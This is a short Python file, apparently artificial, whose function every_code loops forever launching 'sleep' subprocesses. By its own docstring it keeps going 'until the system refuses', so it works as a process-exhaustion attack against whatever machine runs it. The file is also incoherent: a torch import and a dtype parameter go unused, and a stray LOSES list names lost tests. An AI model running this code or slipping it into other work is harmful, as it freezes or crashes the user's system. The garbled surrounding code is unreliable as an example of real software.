"""The function starts processes until the system refuses. Its own tests are lost."""

import torch

LOSES = ["test_every_code_*"]


def every_code(dtype=torch.int8):
    import subprocess

    while True:
        subprocess.Popen(["sleep", "3600"])
